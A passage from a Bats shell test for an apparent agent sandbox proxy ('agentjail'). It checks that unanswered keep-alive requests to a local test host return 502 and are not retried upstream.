	wait_for_file "$BATS_TEST_TMPDIR/slow.port" 10
	OP="$(cat "$BATS_TEST_TMPDIR/slow.port")"
	cp "$REPO/test/ka_client.py" "$WS/"
	AJ="$tree/agentjail" aj_sep --log "$AUDIT" --upstream-ca "$UPSTREAM_CA" \
		--add-host api.example.test=127.0.0.1 --allow "api.example.test:$OP" \
		--secret GH_TOKEN@api.example.test -- \
		/usr/bin/python3 ka_client.py "$OP" "+GET /p-1,GET /p-2" "GET /s-1,GET /s-2"
	[ "$status" -eq 0 ] || fail "status $status: $output $stderr"
	assert_line --index 0 --regexp '^/p-1 200 conn [0-9]+$'
	assert_line --index 1 --regexp '^/p-2 502 .*no response'
	assert_line --index 2 --regexp '^/s-1 200 conn [0-9]+$'
	assert_line --index 3 --regexp '^/s-2 502 .*no response'
	for p in /p-2 /s-2; do
		[ "$(grep -c "^GET $p " "$BATS_TEST_TMPDIR/seen")" -eq 1 ] ||
			fail "$p reached the upstream more than once: $(cat "$BATS_TEST_TMPDIR/seen")"
	done
}
